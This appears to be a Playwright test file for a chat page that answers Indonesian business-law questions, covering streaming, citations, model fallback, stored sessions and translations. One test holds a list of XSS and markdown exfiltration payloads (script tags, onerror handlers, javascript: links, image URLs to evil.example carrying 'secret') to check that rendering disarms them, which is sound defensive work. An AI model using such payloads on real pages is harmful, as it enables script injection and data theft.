"""The chat page, in a real browser."""

import asyncio

import pytest
from playwright.async_api import Locator, Page, Route, expect

from app.errors import FailureKind
from tests.pages.conftest import Opening
from tests.upstream import (
    Step,
    Upstream,
    Wire,
    haiku_calls,
    haiku_says,
    llama_chunk,
    llama_says,
    status,
)

pytestmark = pytest.mark.asyncio(loop_scope="session")

QUESTION = "How much capital does a PT PMA need?"


async def ask(page: Page, question: str = QUESTION) -> Locator:
    """The answer to come."""
    await page.locator("#question").fill(question)
    await page.keyboard.press("Enter")
    return page.locator(".turn:last-child .answer")


def breaks_off(*pieces: str) -> Step:
    async def step(wire: Wire) -> None:
        await wire.head()
        for piece in pieces:
            await wire.event(llama_chunk(piece))
        wire.reset()

    return step


async def test_an_answer_appears_in_pieces(opening: Opening, upstream: Upstream) -> None:
    gate = asyncio.Event()
    upstream.llama(llama_says("**Ten billion** ", "rupiah [1].", gate=gate))
    async with opening() as page:
        answer = await ask(page)
        await expect(answer).to_have_text("Ten billion")
        gate.set()
        await expect(answer).to_have_text("Ten billion rupiah 1.")
        await expect(answer.locator("strong")).to_have_text("Ten billion")
        await expect(page.locator(".badge")).to_have_text("Llama 4 Scout")
        await expect(page.locator(".figures")).to_contain_text("$0.00034")
        await expect(page.get_by_role("status")).to_contain_text("Ten billion rupiah")


async def test_a_source_opens_its_passage(opening: Opening, upstream: Upstream) -> None:
    upstream.llama(llama_says("Ten billion [2, 1]; not `[1]`, nor [99]."))
    async with opening() as page:
        answer = await ask(page)
        await expect(answer).to_have_text("Ten billion 21; not [1], nor [99].")
        cited = answer.get_by_role("button", name="Source 1: ")
        await cited.focus()
        await page.keyboard.press("Enter")

        source = page.get_by_role("dialog")
        await expect(source).to_contain_text("Document")
        await expect(source).to_contain_text("pt-pma")
        await expect(source).to_contain_text("Section")
        await expect(source.locator("blockquote")).to_contain_text("IDR 10 billion")
        await page.keyboard.press("Escape")
        await expect(source).to_be_hidden()
        await expect(cited).to_be_focused()

        await page.get_by_text("Sources (").click()
        await page.locator(".sources button").nth(1).click()
        await expect(source).to_contain_text("Source 2: ")
        await source.get_by_role("button", name="Close").click()
        await expect(source).to_be_hidden()


async def test_stop_stops_the_model_too(opening: Opening, upstream: Upstream) -> None:
    gate = asyncio.Event()
    upstream.llama(llama_says("Ten billion ", "that nobody waits for", gate=gate))
    async with opening() as page:
        answer = await ask(page)
        await expect(answer).to_have_text("Ten billion")
        await page.get_by_role("button", name="Stop").click()
        async with asyncio.timeout(30):
            await upstream.llama_calls[0].closed.wait()
        await expect(page.locator(".turn .note")).to_have_text("Stopped.")
        await expect(answer).to_have_text("Ten billion")
        await expect(page.locator("#question")).to_be_focused()

        upstream.llama(llama_says("Ten billion rupiah."))
        await page.get_by_role("button", name="Ask again").click()
        await expect(answer).to_have_text("Ten billion rupiah.")
        await expect(page.locator(".turn")).to_have_count(1)


async def test_a_fallback_shows_who_answered_and_why(opening: Opening, upstream: Upstream) -> None:
    upstream.llama(status(429, {"error": {"code": 429, "message": "slow down"}}))
    upstream.haiku(haiku_says("Ten billion."))
    async with opening() as page:
        await expect(await ask(page)).to_have_text("Ten billion.")
        await expect(page.locator(".badge strong")).to_have_text("Claude Haiku 4.5")
        await expect(page.locator(".badge span")).to_have_text(
            "not the first choice: too many requests to it"
        )


async def test_an_answer_that_haiku_took_over_says_so(opening: Opening, upstream: Upstream) -> None:
    upstream.llama(breaks_off("Ten billion "))
    upstream.haiku(haiku_says("rupiah."))
    async with opening() as page:
        await expect(await ask(page)).to_have_text("Ten billion rupiah.")
        await expect(page.locator(".badge")).to_contain_text("Llama 4 Scout")
        await expect(page.locator(".badge span")).to_contain_text("Claude Haiku 4.5 went on: ")


async def test_what_the_model_looked_up_is_shown(opening: Opening, upstream: Upstream) -> None:
    searches = haiku_calls(("s1", "search_knowledge_base", {"query": "VAT rate"}))
    upstream.haiku(searches, haiku_says("Eleven percent."))
    async with opening() as page:
        await page.get_by_label("Look things up while answering").check()
        await expect(await ask(page, "And VAT?")).to_have_text("Eleven percent.")
        used = page.locator(".tool")
        await expect(used.locator("summary")).to_have_text("Searched: VAT rate")
        await used.click()
        await expect(used.locator("p")).to_contain_text("VAT")
        await expect(page.locator(".badge")).to_contain_text("tools were called for")


async def test_an_answer_that_broke_off_keeps_what_was_said(
    opening: Opening, upstream: Upstream
) -> None:
    upstream.llama(breaks_off("Ten billion "))
    upstream.haiku(status(500, {"error": {"type": "api_error", "message": "x"}}))
    async with opening() as page:
        answer = await ask(page)
        await expect(page.get_by_role("alert")).to_have_text(
            "The answer broke off: its server failed."
        )
        await expect(answer).to_have_text("Ten billion")


async def test_a_refusal_is_told_and_asking_again_works(
    opening: Opening, upstream: Upstream
) -> None:
    moderated = {"code": 403, "message": "no", "metadata": {"reasons": ["violence"]}}
    upstream.llama(status(403, {"error": moderated}))
    async with opening() as page:
        answer = await ask(page)
        await expect(page.get_by_role("alert")).to_contain_text("content filter refused")

        upstream.llama(llama_says("Ten billion."))
        await page.get_by_role("button", name="Ask again").click()
        await expect(answer).to_have_text("Ten billion.")
        await expect(page.get_by_role("alert")).to_have_count(0)


HOSTILE = (
    "Look: <script>window.harmed = 1</script> <img src=x onerror='window.harmed = 2'> ",
    "![a picture](http://evil.example/pixel.png?q=secret) ![ref][p] ",
    "<iframe src='//evil.example'></iframe> [a link](javascript:window.harmed=3) ",
    "[another](http://evil.example/?q=secret) <http://evil.example/x> ",
    "<a href='http://evil.example/raw' onclick='window.harmed=4'>raw</a> ",
    "<svg><a xlink:href='javascript:window.harmed=5'>svg</a></svg> <style>body{}</style> ",
    "[data](data:text/html,<script>x</script>) http://evil.example/bare [1]\n\n",
    "<form action='/x'><img src='http://evil.example/block.png'>\n</form>\n\n",
    "[p]: http://evil.example/reference.png\n[1]: http://evil.example/instead-of-a-source\n\n",
    "the end",
)


async def test_hostile_markdown_is_harmless(opening: Opening, upstream: Upstream) -> None:
    upstream.llama(llama_says(*HOSTILE))
    async with opening() as page:
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        answer = await ask(page)
        await expect(answer).to_contain_text("the end")
        await expect(answer).to_contain_text("a picture")
        await expect(answer).to_contain_text("another (http://evil.example/?q=secret)")
        await expect(
            answer.locator("a, img, iframe, script, style, form, svg, math")
        ).to_have_count(0)
        assert await page.evaluate("window.harmed") is None
        assert [url for url in requested if "evil" in url] == []


async def test_no_part_of_hostile_markdown_is_active_wherever_it_is_cut(opening: Opening) -> None:
    async with opening() as page:
        active = await page.evaluate(
            """async (text) => {
                const { rendered } = await import("/static/markdown.js");
                const found = [];
                for (let end = 0; end <= text.length; end++) {
                    const part = document.createElement("div");
                    part.append(rendered(text.slice(0, end), [], () => ""));
                    document.body.append(part);
                    if (part.querySelector("a, img, iframe, script, style, form, svg, button"))
                        found.push(text.slice(0, end));
                    part.remove();
                }
                return found;
            }""",
            "".join(HOSTILE),
        )
        assert active == []
        assert await page.evaluate("window.harmed") is None


async def test_a_source_s_own_address_is_a_link(opening: Opening, upstream: Upstream) -> None:
    upstream.llama(llama_says("See [the law](https://law.example/PP-28?a=1&b=2)."))
    async with opening() as page:

        async def with_address(route: Route) -> None:
            response = await route.fetch()
            body = (await response.text()).replace(
                '"uri":null', '"uri":"https://law.example/PP-28?a=1&b=2"'
            )
            await route.fulfill(response=response, body=body)

        await page.route("**/chat", with_address)
        link = (await ask(page)).get_by_role("link", name="the law")
        await expect(link).to_have_attribute("rel", "noopener noreferrer")
        await expect(link).to_have_attribute("target", "_blank")


async def test_a_key_is_asked_for_and_kept_for_the_session(
    opening: Opening, upstream: Upstream
) -> None:
    async with opening() as page:

        async def guarded(route: Route) -> None:
            if route.request.headers.get("authorization") == "Bearer sesame":
                await route.continue_()
            else:
                await route.fulfill(status=401, json={"detail": "a key is needed"})

        await page.route("**/chat", guarded)
        answer = await ask(page)
        asked = page.get_by_role("dialog", name="Access key")
        await asked.get_by_label("Key", exact=True).fill("wrong")
        await page.keyboard.press("Enter")
        await expect(asked.get_by_role("alert")).to_contain_text("did not accept")
        upstream.llama(llama_says("Ten billion."), llama_says("As I said."))
        await asked.get_by_label("Key", exact=True).fill("sesame")
        await asked.get_by_role("button", name="Use the key").click()
        await expect(answer).to_have_text("Ten billion.")
        await expect(asked).to_have_count(0)

        await page.reload()
        await expect(await ask(page, "Sure?")).to_have_text("As I said.")
        assert "sesame" not in await page.evaluate("JSON.stringify(localStorage)")


async def test_the_conversation_is_kept_and_told_to_the_model(
    opening: Opening, upstream: Upstream
) -> None:
    upstream.llama(llama_says("Ten billion [1]."), llama_says("For each place."))
    async with opening() as page:
        await expect(await ask(page)).to_have_text("Ten billion 1.")
        await page.reload()
        answer = page.locator(".turn:last-child .answer")
        await expect(answer).to_have_text("Ten billion 1.")
        await answer.get_by_role("button").click()
        await expect(page.get_by_role("dialog")).to_contain_text("pt-pma")
        await page.keyboard.press("Escape")

        await expect(await ask(page, "Once only?")).to_have_text("For each place.")
        told = [m for m in upstream.llama_calls[1].json["messages"] if m["role"] == "assistant"]
        assert [m["content"] for m in told] == ["Ten billion [1]."]

        page.on("dialog", lambda dialog: dialog.accept())
        await page.get_by_role("button", name="New conversation").click()
        await expect(page.locator(".turn")).to_have_count(0)
        await page.reload()
        await expect(page.locator(".welcome")).to_be_visible()


async def test_an_answer_that_the_page_was_left_in_is_kept_as_far_as_it_had_come(
    opening: Opening, upstream: Upstream
) -> None:
    gate = asyncio.Event()
    upstream.llama(llama_says("Ten billion ", "that nobody waits for", gate=gate))
    async with opening() as page:
        await expect(await ask(page)).to_have_text("Ten billion")
        await page.reload()
        await expect(page.locator(".answer")).to_have_text("Ten billion")
        await expect(page.locator(".turn .note")).to_have_text("Stopped.")
        async with asyncio.timeout(30):
            await upstream.llama_calls[0].closed.wait()


@pytest.mark.parametrize(
    "trouble",
    [
        "localStorage.setItem('full', 'x'.repeat(5 * 2 ** 20 - 1000))",
        "for (const name of ['localStorage', 'sessionStorage']) Object.defineProperty(window, name,"
        " { get() { throw new DOMException('', 'SecurityError') } })",
    ],
    ids=["full", "forbidden"],
)
async def test_a_browser_that_keeps_nothing_still_chats(
    opening: Opening, upstream: Upstream, trouble: str
) -> None:
    upstream.llama(llama_says("Ten billion [1]."))
    async with opening() as page:
        await page.add_init_script(trouble)
        await page.reload()
        await expect(await ask(page)).to_have_text("Ten billion 1.")
        await expect(page.get_by_role("button", name="Ask again")).to_be_visible()
        await page.get_by_label("Language").select_option("it")
        await expect(page.get_by_role("button", name="Invia")).to_be_visible()


async def test_the_page_speaks_the_browser_s_language_or_the_chosen_one(opening: Opening) -> None:
    async with opening(locale="it-IT") as page:
        await expect(page.get_by_role("button", name="Invia")).to_be_visible()
        await expect(page.locator("html")).to_have_attribute("lang", "it")
        await page.get_by_label("Lingua").select_option("id")
        await expect(page.get_by_role("button", name="Kirim")).to_be_visible()
        await page.reload()
        await expect(page.locator("html")).to_have_attribute("lang", "id")
        await expect(page.get_by_role("button", name="Kirim")).to_be_visible()


async def test_every_text_is_there_in_every_language(opening: Opening) -> None:
    async with opening() as page:
        texts = await page.evaluate("import('/static/texts.js').then((m) => m.TEXTS)")
    names = {code: list(of) for code, of in texts.items()}
    assert names["it"] == names["id"] == names["en"]
    reasons = {code: list(of["reasons"]) for code, of in texts.items()}
    assert reasons["it"] == reasons["id"] == reasons["en"]
    assert set(FailureKind) <= set(reasons["en"])
